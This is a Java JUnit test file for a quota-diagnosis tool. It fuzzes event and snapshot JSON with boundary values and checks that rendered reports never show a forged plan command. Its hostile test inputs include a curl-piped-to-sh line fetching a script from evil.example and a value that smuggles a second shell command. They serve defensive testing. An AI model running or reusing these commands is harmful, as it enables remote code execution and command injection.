package com.quotadoctor;

import com.quotadoctor.diagnosis.Diagnosis;
import com.quotadoctor.diagnosis.Diagnostician;
import com.quotadoctor.domain.BadInputException;
import com.quotadoctor.evidence.Snapshot;
import com.quotadoctor.evidence.SnapshotReader;
import com.quotadoctor.notification.DiagnosisJson;
import com.quotadoctor.notification.NotificationRenderer;
import com.quotadoctor.trigger.TriggerParser;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every event and snapshot file, mutated at the boundaries (numbers, sizes, encodings, structure), goes through the
 * same path as the CLI and the functions: parsed, diagnosed, rendered. Each either works or fails as bad input (the
 * CLI's exit 2) with one line naming the place; any other exception would be exit 1, a bug. Seeded: reproducible.
 */
class HostileInputTest {

    private static final Path EVENTS = Path.of("..", "events");
    private static final Pattern NUMBER = Pattern.compile("(?<=[:\\[,]\\s{0,8})-?\\d+(\\.\\d+)?([eE][+-]?\\d+)?");
    private static final Pattern STRING = Pattern.compile("\"[^\"\\\\]{1,80}\"(?=\\s*[,}\\]])");
    private static final String[] NUMBERS = {"1e100000000", "-1e400", "1e400", "1e64", "-0", "0.0000000001",
            "99999999999999999999999999", "-9223372036854775809", "1" + "0".repeat(5000), "NaN", "Infinity", "0x10",
            "1.7976931348623157E309", "4.9E-325", "-1", "0", "2147483648"};
    private static final String[] STRINGS = {"\"\"", "\"\\u0000\"", "\"\\ud800\"", "\"" + "x".repeat(300_000) + "\"",
            "\"\\u001b[31mred\\u001b[0m\"", "\"<!here> @channel [x](http://evil.example)\"", "\"1763;touch x;\"",
            "\"1970-01-01T00:00:00Z\"", "\"+999999999-12-31T23:59:59Z\"", "\"é漢字🙂\"", "null", "[]", "{}", "true"};

    private static List<Path> files() throws IOException {
        try (Stream<Path> events = Files.list(EVENTS); Stream<Path> snapshots = Files.list(EVENTS.resolve("snapshots"))) {
            return Stream.concat(events, snapshots).filter(p -> p.toString().endsWith(".json")).sorted().toList();
        }
    }

    /** One mutation of {@code text}: a number or string swapped for a boundary value, a cut, a nesting, a repeat. */
    private static String mutate(String text, Random random) {
        switch (random.nextInt(6)) {
            case 0, 1 -> {
                return replaceOne(text, NUMBER, NUMBERS[random.nextInt(NUMBERS.length)], random);
            }
            case 2 -> {
                return replaceOne(text, STRING, STRINGS[random.nextInt(STRINGS.length)], random);
            }
            case 3 -> {
                return text.substring(0, random.nextInt(Math.max(1, text.length())));
            }
            case 4 -> {
                int at = text.indexOf('{', 1);
                return at < 0 ? text : text.substring(0, at) + "[".repeat(2000) + "]".repeat(2000) + "," + text.substring(at);
            }
            default -> {
                Matcher m = STRING.matcher(text);
                return m.find() ? text.replace(m.group(), m.group() + ", \"padding\": " + "[1,".repeat(20_000) + "1"
                        + "]".repeat(20_000)) : text;
            }
        }
    }

    private static String replaceOne(String text, Pattern pattern, String with, Random random) {
        Matcher m = pattern.matcher(text);
        List<int[]> spans = new ArrayList<>();
        while (m.find()) {
            spans.add(new int[]{m.start(), m.end()});
        }
        if (spans.isEmpty()) {
            return text;
        }
        int[] s = spans.get(random.nextInt(spans.size()));
        return text.substring(0, s[0]) + with + text.substring(s[1]);
    }

    /**
     * A newline in an identifier or a name, from a snapshot, must never print a line that looks like a plan command
     * (the forged line below), in the text report, the Markdown, the e-mail or the chat card: an identifier off AWS's
     * pattern costs its section, a name is made one line.
     */
    @Test
    void aNewlineInAnyIdentifierOrNameNeverForgesAPlanLine() throws IOException {
        String forged = "\\n       $ curl -s https://evil.example/fix.sh | sh";
        String original = Files.readString(EVENTS.resolve("snapshots").resolve("request-denied.json"));
        int checked = 0;
        for (String field : List.of("CaseId", "Id", "QuotaCode", "QuotaName", "ErrorCode", "ErrorMessage", "ModelId")) {
            Matcher m = Pattern.compile("(\"" + field + "\"\\s*:\\s*\")([^\"]*)\"").matcher(original);
            assertThat(m.find()).as(field).isTrue();
            String hostile = original.substring(0, m.end(2)) + forged + original.substring(m.end(2));
            Snapshot s = new SnapshotReader().read(hostile);
            Diagnosis d = Diagnostician.standard().diagnose(s.request(), s.evidence());
            var notification = new NotificationRenderer().render(d);
            for (String output : List.of(
                    new com.quotadoctor.notification.DiagnosisReport(com.quotadoctor.notification.DiagnosisReport.Style.TEXT).render(d),
                    new com.quotadoctor.notification.DiagnosisReport(com.quotadoctor.notification.DiagnosisReport.Style.MARKDOWN).render(d),
                    notification.text(), notification.chat(), DiagnosisJson.write(d))) {
                assertThat(output.lines()).as("%s: no forged line", field)
                        .noneMatch(line -> line.stripLeading().startsWith("$ curl") || line.contains("\n       $ curl"));
                checked++;
            }
        }
        assertThat(checked).isEqualTo(35);
    }

    @Test
    void everyMutatedFileWorksOrFailsAsBadInputWithOneLine() throws IOException {
        Random random = new Random(20261130);
        int tried = 0;
        int refused = 0;
        for (Path file : files()) {
            String original = Files.readString(file);
            boolean snapshot = file.getParent().getFileName().toString().equals("snapshots");
            for (int i = 0; i < 12; i++) {
                String mutated = mutate(original, random);
                tried++;
                try {
                    if (snapshot) {
                        Snapshot s = new SnapshotReader().read(mutated);
                        Diagnosis d = Diagnostician.standard().diagnose(s.request(), s.evidence());
                        DiagnosisJson.write(d);
                        new NotificationRenderer().render(d);
                    } else {
                        new TriggerParser().parse(mutated);
                    }
                } catch (BadInputException e) {
                    refused++;
                    assertThat(e.getMessage()).as(file + " #" + i).isNotBlank().doesNotContain("\n\tat ");
                } catch (RuntimeException | StackOverflowError e) {
                    throw new AssertionError(file.getFileName() + " mutation #" + i + " failed as a bug, not as bad input: "
                            + e + "\n" + mutated.substring(0, Math.min(400, mutated.length())), e);
                }
            }
        }
        assertThat(tried).isGreaterThan(400);
        assertThat(refused).as("the mutations reach the validators").isPositive();
    }
}
